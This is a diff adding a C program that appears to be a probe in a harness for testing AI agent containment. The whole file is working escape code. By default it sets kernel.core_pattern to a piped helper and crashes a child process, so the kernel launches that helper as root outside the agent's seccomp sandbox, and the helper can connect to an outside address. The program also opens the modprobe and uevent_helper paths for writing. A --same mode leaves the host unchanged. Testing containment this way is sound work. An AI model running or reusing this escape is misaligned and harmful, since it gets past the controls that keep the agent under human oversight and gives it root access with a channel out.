@@ -1,0 +1,92 @@
+/*
+ * core-pattern: a root agent's way past the filter through the kernel's
+ * usermode helpers. Sets kernel.core_pattern to "|HELPER ARG" and crashes a
+ * child: the kernel then starts HELPER as full root, outside the agent's
+ * seccomp filter and process tree (it connects wherever ARG says). Also
+ * tries to open kernel.modprobe and /sys/kernel/uevent_helper for writing
+ * (opened only, never written). With --same it writes core_pattern's own
+ * value back instead (changes nothing: safe on a real host) and crashes
+ * nothing.
+ *
+ *     core-pattern HELPER ARG
+ *     core-pattern --same
+ */
+#include "agentlib.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/prctl.h>
+#include <sys/resource.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
+
+static void try_open(const char *path)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+
+	agent_log("open_for_write", path, fd, errno, NULL);
+	if (fd >= 0)
+		close(fd);
+}
+
+static long write_file(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+	long r;
+
+	if (fd < 0)
+		return -1;
+	r = write(fd, text, strlen(text));
+	close(fd);
+	return r;
+}
+
+int main(int argc, char **argv)
+{
+	char old[512] = "", want[600];
+	int same = argc == 2 && strcmp(argv[1], "--same") == 0, fd;
+	long r;
+
+	agent_init("core-pattern");
+	if (!same && argc != 3)
+		return agent_usage("HELPER ARG | --same");
+	fd = open(CORE_PATTERN, O_RDONLY | O_CLOEXEC);
+	if (fd >= 0) {
+		ssize_t n = read(fd, old, sizeof(old) - 1);
+
+		old[n > 0 ? n : 0] = '\0';
+		close(fd);
+	}
+	if (same)
+		snprintf(want, sizeof(want), "%s", old);
+	else
+		snprintf(want, sizeof(want), "|%s %s\n", argv[1], argv[2]);
+	r = write_file(CORE_PATTERN, want);
+	agent_log("write_core_pattern", CORE_PATTERN, r, errno, NULL);
+	try_open("/proc/sys/kernel/modprobe");
+	try_open("/sys/kernel/uevent_helper");
+	if (!same && r > 0) {
+		pid_t pid = fork();
+		int status = 0;
+
+		if (pid == 0) {
+			struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
+
+			setrlimit(RLIMIT_CORE, &rl);
+			prctl(PR_SET_DUMPABLE, 1);
+			raise(SIGSEGV);
+			_exit(0);
+		}
+		waitpid(pid, &status, 0);
+		agent_log("crash_child", NULL, WIFSIGNALED(status) ? WTERMSIG(status) : -1, 0,
+			  NULL);
+		/* The helper runs asynchronously: give it time to connect. */
+		sleep(2);
+	}
+	return 0;
+}
